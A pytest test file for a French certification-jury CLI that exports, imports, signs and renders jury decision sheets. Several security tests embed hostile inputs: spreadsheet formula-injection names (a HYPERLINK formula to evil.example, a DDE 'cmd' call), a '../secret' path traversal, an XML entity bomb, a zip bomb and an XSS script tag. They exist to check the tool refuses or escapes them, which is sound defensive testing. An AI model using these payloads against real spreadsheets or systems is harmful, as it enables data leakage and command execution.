"""The jury session end to end: the sheet out, filled in by a script, back in; the procès-verbal.

Real files in temporary folders, through the real `portfolio` command (click's
runner), spreadsheets filled in with openpyxl and the csv module as a jury's
spreadsheet would leave them.
"""

from __future__ import annotations

import csv
import io
import json
import os
import zipfile
from pathlib import Path

import openpyxl
import pytest
import yaml
from click.testing import CliRunner

from portfolio_builder.cli import main
from portfolio_builder.cohort import session as session_mod
from portfolio_builder.cohort.dashboard import Cohort
from tests.conftest import C2I1_CODES, evidence_page
from tests.corpus.dossier import ROOT, fingerprint

SESSION = "2027-juin"
INSTITUTION = "Université de Valcourt"
MEMBERS = ["Pr. Anne Delmas (présidente)", "M. Karim Benali"]

# What the jury decides, per candidate: (decisions, QCM results).
ALL_VALIDATED = {code: "validated" for code in C2I1_CODES}
DECIDED = {
    "30100001": (ALL_VALIDATED, {d: (True, 70.0) for d in ("D1", "D2", "D3", "D4", "D5")}),
    "30100002": ({**ALL_VALIDATED, "D5.2": "not_validated"}, {d: (True, 55.5) for d in ("D1", "D2", "D3", "D4", "D5")}),
    "30100003": (ALL_VALIDATED, {"D1": (True, 62.5), "D2": (False, 38.0), "D3": (True, 71.0), "D4": (True, 58.5), "D5": (True, 66.0)}),
    "30100004": ({code: "validated" for code in C2I1_CODES[:10]}, {}),  # the jury has not finished
}
NAMES = {"30100001": "Camille Durand", "30100002": "Hugo Lefebvre", "30100003": "Thomas Girard", "30100004": "Inès Dupuis"}


def cli(*args: str):
    return CliRunner().invoke(main, list(args), catch_exceptions=False)


@pytest.fixture
def cohort(tmp_path, project) -> Path:
    """A cohort.yml with four dossiers and an empty jury folder."""
    for key, name in NAMES.items():
        project(
            {"docs/a.md": evidence_page(*C2I1_CODES[:12]), "docs/b.md": evidence_page(*C2I1_CODES[12:])},
            portfolio={"candidate": {"name": name, "student_id": key}, "institution": INSTITUTION, "session": SESSION},
            name=f"dossiers/{key}",
        )
    (tmp_path / "jury").mkdir()
    path = tmp_path / "cohort.yml"
    path.write_text(
        f"title: Session test\ninstitution: {INSTITUTION}\nsession: {SESSION}\nreferential: c2i1-2011\n"
        "juries: jury\ndossiers: [dossiers/*]\n",
        encoding="utf-8",
    )
    return path


def fill_xlsx(sheet: Path, out: Path, decided=DECIDED, date: str = "2027-06-24", members=MEMBERS) -> None:
    """What a jury does in its spreadsheet: drop-down values, QCM results and scores, date and members."""
    workbook = openpyxl.load_workbook(sheet)
    table, block = workbook.worksheets
    codes = [c.value for c in table[2]]
    for row in table.iter_rows(min_row=3):
        decisions, qcm = decided.get(str(row[0].value), ({}, {}))
        for index, code in enumerate(codes):
            if code in decisions:
                row[index].value = {"validated": "validée", "not_validated": "non validée"}[decisions[code]]
            elif code and code.startswith("qcm:") and code[4:] in qcm:
                row[index].value = "réussi" if qcm[code[4:]][0] else "non réussi"
            elif code and code.startswith("score:") and code[6:] in qcm:
                row[index].value = qcm[code[6:]][1]
    block["B5"] = date
    for offset, member in enumerate(members):
        block.cell(row=6, column=2 + offset, value=member)
    workbook.save(out)


def hand_written_juries(folder: Path) -> None:
    """The same decisions, as a jury writes them by hand in YAML."""
    folder.mkdir()
    for key, (decisions, qcm) in DECIDED.items():
        document = {"session": SESSION, "date": "2027-06-24", "institution": INSTITUTION, "members": MEMBERS,
                    "decisions": decisions}
        if qcm:
            document["qcm"] = {d: {"passed": p, "score": s} for d, (p, s) in qcm.items()}
        (folder / f"{key}.yml").write_text(yaml.safe_dump(document, allow_unicode=True), encoding="utf-8")


def outcomes(cohort_file: Path, juries: Path) -> dict[str, tuple]:
    info, folders = session_mod.load_cohort(cohort_file)
    info.juries = juries.resolve()
    gathered = session_mod.gather(info, folders, jobs=1)
    assert gathered.errors == [], gathered.errors
    return {
        c.key: (c.outcome, c.validated_domains, c.carried_over, c.reasons, c.decisions, c.qcm)
        for c in gathered.session.candidates
    }


def test_round_trip_xlsx_gives_the_outcomes_of_hand_written_jury_files(cohort, tmp_path):
    sheet = tmp_path / "decisions.xlsx"
    result = cli("jury", "sheet", str(cohort), "-o", str(sheet))
    assert result.exit_code == 0, result.output
    filled = tmp_path / "filled.xlsx"
    fill_xlsx(sheet, filled)
    result = cli("jury", "import", str(filled), "--cohort", str(cohort))
    assert result.exit_code == 0, result.output
    assert "30100002 Hugo Lefebvre : nouveau fichier, 25 décision(s)" in result.output
    assert sorted(p.name for p in (tmp_path / "jury").iterdir()) == [f"{k}.yml" for k in sorted(DECIDED)]
    hand_written_juries(tmp_path / "hand")
    imported = outcomes(cohort, tmp_path / "jury")
    assert imported == outcomes(cohort, tmp_path / "hand")
    assert [imported[k][0] for k in sorted(imported)] == ["certified", "not_certified", "not_certified", "pending"]
    # Imported files are valid jury files the cohort reads like any other.
    built = cli("check", str(tmp_path / "dossiers/30100001"))
    assert built.exit_code == 0


def test_round_trip_csv_filled_by_a_french_spreadsheet(cohort, tmp_path):
    sheet = tmp_path / "decisions.csv"
    assert cli("jury", "sheet", str(cohort), "-o", str(sheet)).exit_code == 0
    raw = sheet.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf") and b";" in raw.split(b"\n", 1)[0]
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))
    codes = next(r for r in rows if r and r[0] == "id")
    for row in rows:
        if row and row[0] in DECIDED:
            decisions, qcm = DECIDED[row[0]]
            row.extend([""] * (len(codes) - len(row)))
            for i, code in enumerate(codes):
                if code in decisions:
                    row[i] = {"validated": "Validée", "not_validated": "non validée"}[decisions[code]]
                elif code.startswith("qcm:") and code[4:] in qcm:
                    row[i] = "réussi" if qcm[code[4:]][0] else "non réussi"
                elif code.startswith("score:") and code[6:] in qcm:
                    row[i] = f"{qcm[code[6:]][1]:g}".replace(".", ",")
        elif row and row[0] == "date du jury":
            row[1:] = ["24/06/2027"]
        elif row and row[0] == "membres du jury":
            row[1:] = MEMBERS
    out = io.StringIO()
    csv.writer(out, delimiter=";", lineterminator="\r\n").writerows(rows)
    # Saved by a spreadsheet on Windows: Windows-1252, no BOM.
    (tmp_path / "filled.csv").write_bytes(out.getvalue().encode("cp1252"))
    result = cli("jury", "import", str(tmp_path / "filled.csv"), "--juries", str(tmp_path / "jury"))
    assert result.exit_code == 0, result.output
    hand_written_juries(tmp_path / "hand")
    assert outcomes(cohort, tmp_path / "jury") == outcomes(cohort, tmp_path / "hand")


def test_the_sheet_prefills_existing_decisions_and_the_xlsx_helps_the_jury(cohort, tmp_path):
    hand_written_juries(tmp_path / "jury-done")
    sheet = tmp_path / "again.xlsx"
    assert cli("jury", "sheet", str(cohort), "--juries", str(tmp_path / "jury-done"), "-o", str(sheet)).exit_code == 0
    workbook = openpyxl.load_workbook(sheet)
    table, block = workbook.worksheets
    assert table.freeze_panes == "D3"
    codes = [c.value for c in table[2]]
    rows = {r[0].value: r for r in table.iter_rows(min_row=3)}
    assert rows["30100002"][codes.index("D5.2")].value == "non validée"
    assert rows["30100004"][codes.index("D5.2")].value is None
    assert rows["30100001"][codes.index("info:D1.1")].value == "1 preuve(s) · non relue"
    assert rows["30100001"][codes.index("name")].value == "Camille Durand"
    lists = {dv.formula1 for dv in table.data_validations.dataValidation}
    assert '"validée,non validée,vide"' in lists and '"réussi,non réussi,vide"' in lists
    assert block["A1"].value == "portfolio-jury-sheet" and block["B4"].value == "c2i1-2011"
    assert block["B5"].value == "2027-06-24" and block["B6"].value == MEMBERS[0]
    # Re-importing the sheet untouched changes nothing.
    result = cli("jury", "import", str(sheet), "--juries", str(tmp_path / "jury-done"))
    assert result.exit_code == 0 and "0 fichier(s) du jury écrits" in result.output


def test_dry_run_reports_changes_and_writes_nothing(cohort, tmp_path):
    hand_written_juries(tmp_path / "jury-done")
    sheet = tmp_path / "s.xlsx"
    cli("jury", "sheet", str(cohort), "--juries", str(tmp_path / "jury-done"), "-o", str(sheet))
    changed = {**DECIDED, "30100002": (ALL_VALIDATED, DECIDED["30100002"][1])}
    fill_xlsx(sheet, tmp_path / "f.xlsx", decided=changed)
    before = fingerprint(tmp_path / "jury-done")
    result = cli("jury", "import", str(tmp_path / "f.xlsx"), "--juries", str(tmp_path / "jury-done"), "--dry-run")
    assert result.exit_code == 0, result.output
    assert "30100002 Hugo Lefebvre : 1 changement(s)\n    D5.2 : non validée → validée" in result.output
    assert "Simulation : 1 fichier(s) seraient écrits, 3 inchangé(s)" in result.output
    assert fingerprint(tmp_path / "jury-done") == before


def _bad_sheet(cohort: Path, tmp_path: Path) -> Path:
    sheet = tmp_path / "s.xlsx"
    cli("jury", "sheet", str(cohort), "-o", str(sheet))
    fill_xlsx(sheet, sheet)
    return sheet


def test_any_bad_cell_refuses_the_whole_import_and_lists_every_problem(cohort, tmp_path):
    sheet = _bad_sheet(cohort, tmp_path)
    workbook = openpyxl.load_workbook(sheet)
    table = workbook.worksheets[0]
    codes = [c.value for c in table[2]]
    letter = lambda code: openpyxl.utils.get_column_letter(codes.index(code) + 1)  # noqa: E731
    table[f"{letter('D1.1')}3"] = "oui"
    table[f"{letter('score:D2')}4"] = 120
    table[f"{letter('qcm:D3')}5"] = "bof"
    table.cell(row=7, column=1, value="99999999")
    table.cell(row=8, column=1, value=table["A3"].value)
    workbook.save(sheet)
    before = fingerprint(tmp_path / "jury")
    result = cli("jury", "import", str(sheet), "--cohort", str(cohort))
    assert result.exit_code == 1
    out = result.output
    assert f"s.xlsx:3:{codes.index('D1.1') + 1}: erreur[not-a-decision]" in out
    assert f"s.xlsx:4:{codes.index('score:D2') + 1}: erreur[score-out-of-range]" in out
    assert f"s.xlsx:5:{codes.index('qcm:D3') + 1}: erreur[not-a-decision]" in out
    assert "s.xlsx:7:1: erreur[unknown-candidate]" in out
    assert "s.xlsx:8:1: erreur[duplicate-row]" in out
    assert "Import refusé : 5 erreur(s)" in out and "Aucun fichier n'a été écrit" in out
    assert "Traceback" not in out
    assert fingerprint(tmp_path / "jury") == before == {}


def test_a_reordered_column_is_named_and_refused(cohort, tmp_path):
    sheet = _bad_sheet(cohort, tmp_path)
    workbook = openpyxl.load_workbook(sheet)
    table = workbook.worksheets[0]
    # The jury dragged column D1.2 before D1.1 (codes, labels and cells move together).
    a, b = 5, 7
    for row in table.iter_rows():
        row[a - 1].value, row[b - 1].value = row[b - 1].value, row[a - 1].value
    workbook.save(sheet)
    result = cli("jury", "import", str(sheet), "--cohort", str(cohort))
    assert result.exit_code == 1
    assert "s.xlsx:2:5: erreur[sheet-column] E2: colonne D1.2 déplacée" in result.output
    assert list((tmp_path / "jury").iterdir()) == []


def test_a_sheet_of_another_session_or_referential_is_named(cohort, tmp_path):
    sheet = _bad_sheet(cohort, tmp_path)
    workbook = openpyxl.load_workbook(sheet)
    workbook.worksheets[1]["B2"] = "2026-juin"
    workbook.save(tmp_path / "other-session.xlsx")
    result = cli("jury", "import", str(tmp_path / "other-session.xlsx"), "--cohort", str(cohort))
    assert result.exit_code == 1
    assert "other-session.xlsx[Session]:2:2: erreur[sheet-mismatch]" in result.output
    assert "session « 2026-juin », pas de la session « 2027-juin »" in result.output
    workbook.worksheets[1]["B2"] = SESSION
    workbook.worksheets[1]["B4"] = "c2i2e-2011"
    workbook.save(tmp_path / "other-ref.xlsx")
    result = cli("jury", "import", str(tmp_path / "other-ref.xlsx"), "--cohort", str(cohort))
    assert result.exit_code == 1 and "[Session]:4:2: erreur[sheet-mismatch]" in result.output
    # Without the cohort, the jury folder tells the session apart.
    hand_written_juries(tmp_path / "jury-2026")
    for path in (tmp_path / "jury-2026").iterdir():
        path.write_text(path.read_text(encoding="utf-8").replace(SESSION, "2026-juin"), encoding="utf-8")
    result = cli("jury", "import", str(sheet), "--juries", str(tmp_path / "jury-2026"))
    assert result.exit_code == 1 and result.output.count("[sheet-mismatch]") == 4
    assert list((tmp_path / "jury").iterdir()) == []


def test_a_failed_write_rolls_every_file_back(cohort, tmp_path, monkeypatch):
    hand_written_juries(tmp_path / "jury-done")
    sheet = tmp_path / "s.xlsx"
    cli("jury", "sheet", str(cohort), "--juries", str(tmp_path / "jury-done"), "-o", str(sheet))
    changed = {k: ({c: "not_validated" for c in C2I1_CODES}, {}) for k in DECIDED}
    fill_xlsx(sheet, sheet, decided=changed)
    before = fingerprint(tmp_path / "jury-done")
    from portfolio_builder import transaction

    real_replace = os.replace
    calls = []

    def failing(src, dst):
        calls.append(dst)
        if len(calls) == 3 and str(src).find(".tmp-") >= 0:
            raise OSError(28, "No space left on device")
        return real_replace(src, dst)

    monkeypatch.setattr(transaction.os, "replace", failing)
    result = cli("jury", "import", str(sheet), "--juries", str(tmp_path / "jury-done"))
    assert result.exit_code == 1
    assert "No space left on device" in result.output and "aucun fichier du jury n'a été modifié" in result.output
    assert fingerprint(tmp_path / "jury-done") == before  # no half-written set, no temporary file left


def test_names_that_look_like_formulas_stay_text(tmp_path, project):
    """Malicious input: a candidate's name is never run as a spreadsheet formula (CSV or XLSX)."""
    evil = {"30100001": '=HYPERLINK("http://evil.example/?"&A1,"cliquez")', "30100002": "+cmd|' /C calc'!A0",
            "30100003": "-2+3", "30100004": "@SUM(1+1)", "30100005": "\tTab", "30100006": "\rReturn"}
    for key, name in evil.items():
        project({"docs/a.md": evidence_page("D1.1")},
                portfolio={"candidate": {"name": name, "student_id": key}, "institution": INSTITUTION, "session": SESSION},
                name=f"dossiers/{key}")
    path = tmp_path / "cohort.yml"
    path.write_text(f"session: {SESSION}\ninstitution: {INSTITUTION}\ndossiers: [dossiers/*]\n", encoding="utf-8")
    assert cli("jury", "sheet", str(path), "-o", str(tmp_path / "s.xlsx")).exit_code == 0
    assert cli("jury", "sheet", str(path), "-o", str(tmp_path / "s.csv")).exit_code == 0
    table = openpyxl.load_workbook(tmp_path / "s.xlsx").worksheets[0]
    names = {row[0].value: row[1] for row in table.iter_rows(min_row=3)}
    for key, name in evil.items():
        cell = names[key]
        assert cell.data_type == "s", (name, cell.data_type)  # a string cell, not a formula
        assert cell.value == name.strip()
    with zipfile.ZipFile(tmp_path / "s.xlsx") as archive:
        assert "<f>" not in archive.read("xl/worksheets/sheet1.xml").decode("utf-8")
    text = (tmp_path / "s.csv").read_text(encoding="utf-8-sig")
    cells = [c for row in csv.reader(io.StringIO(text), delimiter=";") for c in row]
    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)
    assert "'=HYPERLINK" in text


def test_a_student_number_is_never_a_path(tmp_path, project):
    """Malicious input: a student_id with `/` or `..` names no jury file, and the candidate is named."""
    outside = tmp_path / "secret.yml"
    outside.write_text("session: 2027-juin\n", encoding="utf-8")
    for key, sid in (("a", "../secret"), ("b", "30100002")):
        project({"docs/a.md": evidence_page("D1.1")},
                portfolio={"candidate": {"name": f"Candidat {key}", "student_id": sid}, "session": SESSION},
                name=f"dossiers/{key}")
    (tmp_path / "jury").mkdir()
    path = tmp_path / "cohort.yml"
    path.write_text(f"session: {SESSION}\njuries: jury\ndossiers: [dossiers/*]\n", encoding="utf-8")
    result = cli("jury", "sheet", str(path), "-o", str(tmp_path / "s.xlsx"))
    assert result.exit_code == 1
    assert "n° étudiant « ../secret » invalide" in result.output
    ids = [r[0].value for r in openpyxl.load_workbook(tmp_path / "s.xlsx").worksheets[0].iter_rows(min_row=3)]
    assert ids == ["30100002"]
    from portfolio_builder.cohort.run import CohortPolicy

    assert CohortPolicy(juries=tmp_path / "jury").untrusted("x", "../secret", True).jury is None


def test_a_symlinked_jury_file_is_refused(cohort, tmp_path):
    sheet = _bad_sheet(cohort, tmp_path)
    target = tmp_path / "elsewhere.yml"
    target.write_text("mine\n", encoding="utf-8")
    os.symlink(target, tmp_path / "jury" / "30100001.yml")
    result = cli("jury", "import", str(sheet), "--cohort", str(cohort))
    assert result.exit_code == 1 and "n'est pas un fichier ordinaire" in result.output
    assert target.read_text(encoding="utf-8") == "mine\n"


def test_hostile_workbooks_are_refused_cleanly(tmp_path):
    """An XML entity bomb, a zip bomb, a file that is not a workbook: a clear message, no traceback."""
    (tmp_path / "jury").mkdir()
    sheet = tmp_path / "bomb.xlsx"
    lol = '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]><workbook>&lol2;</workbook>'
    with zipfile.ZipFile(sheet, "w") as archive:
        archive.writestr("[Content_Types].xml", lol)
        archive.writestr("xl/workbook.xml", lol)
    result = cli("jury", "import", str(sheet), "--juries", str(tmp_path / "jury"))
    assert result.exit_code == 1 and "erreur[encoding]" in result.output and "Traceback" not in result.output
    zipbomb = tmp_path / "zip.xlsx"
    with zipfile.ZipFile(zipbomb, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/worksheets/sheet1.xml", b"\0" * (210 * 1024 * 1024))
    result = cli("jury", "import", str(zipbomb), "--juries", str(tmp_path / "jury"))
    assert result.exit_code == 1 and "erreur[yaml-too-complex]" in result.output
    (tmp_path / "fake.xlsx").write_text("id;name\n", encoding="utf-8")
    result = cli("jury", "import", str(tmp_path / "fake.xlsx"), "--juries", str(tmp_path / "jury"))
    assert result.exit_code == 1 and "classeur XLSX illisible" in result.output
    (tmp_path / "notes.csv").write_text("Nom;Décision\nLéa;validée\n", encoding="utf-8")
    result = cli("jury", "import", str(tmp_path / "notes.csv"), "--juries", str(tmp_path / "jury"))
    assert result.exit_code == 1 and "n'est pas une feuille de décisions" in result.output
    assert list((tmp_path / "jury").iterdir()) == []


def test_the_proces_verbal_of_the_sample_cohort(tmp_path):
    out = tmp_path / "pv.html"
    result = cli("jury", "pv", str(ROOT / "sample_dnc" / "cohorte"), "-o", str(out))
    assert result.exit_code == 0, result.output
    assert "3 candidat(s), dont 1 en attente" in result.output
    html = out.read_text(encoding="utf-8")
    for text in ("Procès-verbal du jury", "Université de Valcourt", "2027-juin", "24 juin 2027",
                 "Pr. Anne Delmas (présidente)", "Camille Durand", "Hugo Lefebvre", "Léa Moreau",
                 "Certifié", "Non certifié", "En attente", "D5.2 non validée", "Signatures",
                 ", le 24 juin 2027.", "Projet : 1 candidat(s)"):
        assert text in html, text
    hugo = html[html.index("Hugo Lefebvre"):]
    hugo = hugo[: hugo.index("</tr>")]
    assert "<td>D3, D4</td>" in hugo and "<td>D1, D2</td>" in hugo  # validated now, carried over
    assert "default-src 'none'" in html and "<script" not in html


def test_the_proces_verbal_escapes_names_and_needs_the_pdf_extra_for_pdf(tmp_path, project, monkeypatch):
    project({"docs/a.md": evidence_page("D1.1")},
            portfolio={"candidate": {"name": "<script>alert(1)</script>", "student_id": "1"}, "session": SESSION},
            name="dossiers/x")
    (tmp_path / "jury").mkdir()
    path = tmp_path / "cohort.yml"
    path.write_text(f"session: {SESSION}\njuries: jury\ndossiers: [dossiers/*]\n", encoding="utf-8")
    needs = cli("jury", "pv", str(path), "-o", str(tmp_path / "pv.html"))
    assert needs.exit_code == 2 and "indiquez institution dans cohort.yml" in needs.output
    path.write_text(path.read_text(encoding="utf-8") + f"institution: {INSTITUTION}\n", encoding="utf-8")
    assert cli("jury", "pv", str(path), "-o", str(tmp_path / "pv.html")).exit_code == 0
    html = (tmp_path / "pv.html").read_text(encoding="utf-8")
    assert "<script>alert" not in html and "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    import builtins

    real_import = builtins.__import__

    def no_weasyprint(name, *args, **kwargs):
        if name == "weasyprint":
            raise ImportError("No module named 'weasyprint'")
        return real_import(name, *args, **kwargs)

    monkeypatch.setattr(builtins, "__import__", no_weasyprint)
    result = cli("jury", "pv", str(path), "-o", str(tmp_path / "pv.pdf"))
    assert result.exit_code == 2 and "portfolio-builder[pdf]" in result.output
    assert not (tmp_path / "pv.pdf").exists()


def test_pv_and_import_need_the_jury_folder(cohort, tmp_path):
    cohort.write_text(cohort.read_text(encoding="utf-8").replace("juries: jury\n", ""), encoding="utf-8")
    result = cli("jury", "pv", str(cohort), "-o", str(tmp_path / "pv.html"))
    assert result.exit_code == 2 and "--juries" in result.output
    sheet = tmp_path / "s.xlsx"
    assert cli("jury", "sheet", str(cohort), "-o", str(sheet)).exit_code == 0
    result = cli("jury", "import", str(sheet))
    assert result.exit_code == 2 and "--juries" in result.output
    assert cli("jury", "sheet", str(cohort), "-o", str(tmp_path / "s.ods")).exit_code == 2
    assert cli("jury", "sheet", str(tmp_path / "absent.yml"), "-o", str(sheet)).exit_code == 2


def test_gather_reads_dossiers_as_the_cohort_does(cohort, tmp_path):
    info = Cohort(session=SESSION, referential="c2i1-2011", juries=None)
    folders = sorted((tmp_path / "dossiers").iterdir())
    gathered = session_mod.gather(info, folders, jobs=2)
    assert [c.name for c in gathered.session.candidates] == ["Camille Durand", "Hugo Lefebvre", "Inès Dupuis", "Thomas Girard"]
    assert all(c.outcome == "pending" for c in gathered.session.candidates)


@pytest.fixture(scope="module")
def institution_key(tmp_path_factory) -> tuple[Path, Path]:
    folder = tmp_path_factory.mktemp("keys")
    result = CliRunner().invoke(
        main, ["keys", "new", "inst", "-d", str(folder), "--issuer-name", INSTITUTION, "--issuer-id", "https://univ-valcourt.example/"],
        catch_exceptions=False,
    )
    assert result.exit_code == 0, result.output
    return folder / "inst.private.jwk", folder / "inst.public.jwk"


def test_a_signed_proces_verbal_is_verified_by_credential_verify(tmp_path, institution_key):
    private, public = institution_key
    out = tmp_path / "pv.html"
    result = cli("jury", "pv", str(ROOT / "sample_dnc" / "cohorte"), "-o", str(out), "--sign", str(private))
    assert result.exit_code == 0, result.output
    token = tmp_path / "pv.html.jwt"
    assert token.is_file() and "Signé électroniquement par Université de Valcourt : pv.html.jwt" in out.read_text(encoding="utf-8")
    verified = cli("credential", "verify", str(token), "--issuer", str(public))
    assert verified.exit_code == 0, verified.output
    assert "Hugo Lefebvre (n° 30100002) : Non certifié ; validés : D3, D4 ; reportés : D1, D2" in verified.output
    assert "Signature valide, émetteur de confiance : Université de Valcourt." in verified.output
    as_json = json.loads(cli("credential", "verify", str(token), "--issuer", str(public), "--format", "json").output)
    subject = as_json["payload"]["credentialSubject"]
    assert subject["session"] == "2027-juin" and subject["document"]["name"] == "pv.html"
    assert [c["outcome"] for c in subject["candidates"]] == ["certified", "not_certified", "pending"]
    # Without the institution's public key the signer is not trusted; an edited page is not the signed one.
    assert cli("credential", "verify", str(token)).exit_code == 1
    out.write_text(out.read_text(encoding="utf-8").replace("Non certifié", "Certifié"), encoding="utf-8")
    tampered = cli("credential", "verify", str(token), "--issuer", str(public))
    assert tampered.exit_code == 1 and "modifié depuis sa signature" in tampered.output
    out.unlink()
    assert cli("credential", "verify", str(token), "--issuer", str(public)).exit_code == 1


def test_a_signed_proces_verbal_is_never_an_attestation(tmp_path, project, institution_key):
    """Malicious input: a candidate lists the session's signed procès-verbal as an earlier attestation."""
    private, public = institution_key
    out = tmp_path / "pv.html"
    assert cli("jury", "pv", str(ROOT / "sample_dnc" / "cohorte"), "-o", str(out), "--sign", str(private)).exit_code == 0
    root = project({"docs/a.md": evidence_page("D1.1"), "pv.jwt": (tmp_path / "pv.html.jwt").read_text(encoding="utf-8")},
                   portfolio={"candidate": {"name": "Léa Moreau", "student_id": "21904512"}, "previous_attestations": ["pv.jwt"]})
    result = cli("check", str(root), "--issuer", str(public))
    assert result.exit_code == 1 and "credential-invalid" in result.output


def test_the_signed_proces_verbal_as_pdf(tmp_path, institution_key):
    try:
        import weasyprint  # noqa: F401
    except (ImportError, OSError):
        pytest.skip("the pdf extra (WeasyPrint and Pango) is not installed")
    private, public = institution_key
    out = tmp_path / "pv.pdf"
    result = cli("jury", "pv", str(ROOT / "sample_dnc" / "cohorte"), "-o", str(out), "--sign", str(private))
    assert result.exit_code == 0, result.output
    assert out.read_bytes().startswith(b"%PDF")
    assert cli("credential", "verify", str(tmp_path / "pv.pdf.jwt"), "--issuer", str(public)).exit_code == 0


def test_control_characters_and_huge_names_make_a_valid_workbook(tmp_path, project):
    """Malicious input: XML-forbidden characters or an oversized name cannot break the workbook."""
    for key, name in (("30100001", "Léa\x01\x1b[31m Moreau"), ("30100002", "X" * 40_000)):
        (project({"docs/a.md": evidence_page("D1.1")},
                 portfolio={"candidate": {"name": "placeholder", "student_id": key}, "session": SESSION},
                 name=f"dossiers/{key}") / "mkdocs.yml").write_text(
            (tmp_path / f"dossiers/{key}/mkdocs.yml").read_text(encoding="utf-8").replace(
                "name: placeholder", "name: " + json.dumps(name)
            ),
            encoding="utf-8",
        )
    path = tmp_path / "cohort.yml"
    path.write_text(f"session: {SESSION}\ndossiers: [dossiers/*]\n", encoding="utf-8")
    result = cli("jury", "sheet", str(path), "-o", str(tmp_path / "s.xlsx"))
    assert result.exit_code == 0, result.output
    names = [r[1].value for r in openpyxl.load_workbook(tmp_path / "s.xlsx").worksheets[0].iter_rows(min_row=3)]
    assert "Léa\ufffd\ufffd[31m Moreau" in names and any(len(n) == 32_767 for n in names)


def test_a_csv_saved_with_commas_is_read(cohort, tmp_path):
    sheet = tmp_path / "s.csv"
    assert cli("jury", "sheet", str(cohort), "-o", str(sheet)).exit_code == 0
    rows = list(csv.reader(io.StringIO(sheet.read_text(encoding="utf-8-sig")), delimiter=";"))
    for row in rows:
        if row and row[0] == "date du jury":
            row[1:] = ["2027-06-24"]
        elif row and row[0] == "membres du jury":
            row[1:] = MEMBERS
        elif row and row[0] == "30100001":
            codes = next(r for r in rows if r and r[0] == "id")
            row[codes.index("D1.1")] = "validée"
    out = io.StringIO()
    csv.writer(out).writerows(rows)  # an English spreadsheet: commas, no BOM
    (tmp_path / "comma.csv").write_text(out.getvalue(), encoding="utf-8")
    result = cli("jury", "import", str(tmp_path / "comma.csv"), "--juries", str(tmp_path / "jury"))
    assert result.exit_code == 0, result.output
    assert yaml.safe_load((tmp_path / "jury/30100001.yml").read_text(encoding="utf-8"))["decisions"] == {"D1.1": "validated"}


def test_levels_and_the_sessions_qcm_setting_round_trip(tmp_path, project):
    """CRCN: a level per competency, written to the jury file the rules engine reads; a cohort without QCM."""
    project({"docs/a.md": evidence_page('"1.1"', '"1.2"')},
            portfolio={"referential": "crcn-2019", "candidate": {"name": "Nina Petit", "student_id": "30100009"}, "session": SESSION},
            name="dossiers/nina")
    (tmp_path / "jury").mkdir()
    path = tmp_path / "cohort.yml"
    path.write_text(f"session: {SESSION}\nreferential: crcn-2019\njuries: jury\ndossiers: [dossiers/*]\n", encoding="utf-8")
    sheet = tmp_path / "s.xlsx"
    assert cli("jury", "sheet", str(path), "-o", str(sheet)).exit_code == 0
    # No institution anywhere: the row that lacks it is named, nothing is written.
    bare = tmp_path / "bare.xlsx"
    fill_xlsx(sheet, bare, decided={"30100009": ({"1.1": "validated"}, {})})
    refused = cli("jury", "import", str(bare), "--cohort", str(path))
    assert refused.exit_code == 1 and "bare.xlsx:3:3: erreur[missing-metadata] C3" in refused.output
    path.write_text(path.read_text(encoding="utf-8") + f"institution: {INSTITUTION}\n", encoding="utf-8")
    assert cli("jury", "sheet", str(path), "-o", str(sheet)).exit_code == 0
    workbook = openpyxl.load_workbook(sheet)
    table, block = workbook.worksheets
    codes = [c.value for c in table[2]]
    assert "level:1.1" in codes and not any(c.startswith("qcm:") for c in codes if c)
    assert any(dv.type == "whole" and dv.formula1 == "1" and dv.formula2 == "8" for dv in table.data_validations.dataValidation)
    table.cell(row=3, column=codes.index("1.1") + 1, value="validée")
    table.cell(row=3, column=codes.index("level:1.1") + 1, value=5)
    block["B5"], block["B6"] = "2027-06-24", MEMBERS[0]
    workbook.save(sheet)
    result = cli("jury", "import", str(sheet), "--cohort", str(path))
    assert result.exit_code == 0, result.output
    written = yaml.safe_load((tmp_path / "jury/30100009.yml").read_text(encoding="utf-8"))
    assert written["decisions"] == {"1.1": "validated"} and written["levels"] == {"1.1": 5}
    assert "niveau 1.1 : vide → 5" in result.output
    c2i1 = tmp_path / "c2i1"
    c2i1.mkdir()
    project({"docs/a.md": evidence_page("D1.1")}, portfolio={"candidate": {"name": "Léo", "student_id": "30100010"}, "session": SESSION},
            name="c2i1/dossiers/leo")
    (c2i1 / "cohort.yml").write_text(f"session: {SESSION}\nqcm_required: false\ndossiers: [dossiers/*]\n", encoding="utf-8")
    assert cli("jury", "sheet", str(c2i1 / "cohort.yml"), "-o", str(tmp_path / "noqcm.csv")).exit_code == 0
    assert "qcm:" not in (tmp_path / "noqcm.csv").read_text(encoding="utf-8-sig")


def test_a_candidate_without_student_number_gets_no_row(cohort, tmp_path, project):
    """Juries are matched by student number alone: a name (anyone's to write) never reaches a file."""
    project({"docs/a.md": evidence_page("D1.1")}, portfolio={"candidate": {"name": "30100001"}, "session": SESSION},
            name="dossiers/zz-sans-numero")
    result = cli("jury", "sheet", str(cohort), "-o", str(tmp_path / "s.xlsx"))
    assert result.exit_code == 1 and "« 30100001 » n'a pas de n° étudiant" in result.output
    ids = [r[0].value for r in openpyxl.load_workbook(tmp_path / "s.xlsx").worksheets[0].iter_rows(min_row=3)]
    assert sorted(ids) == sorted(NAMES)
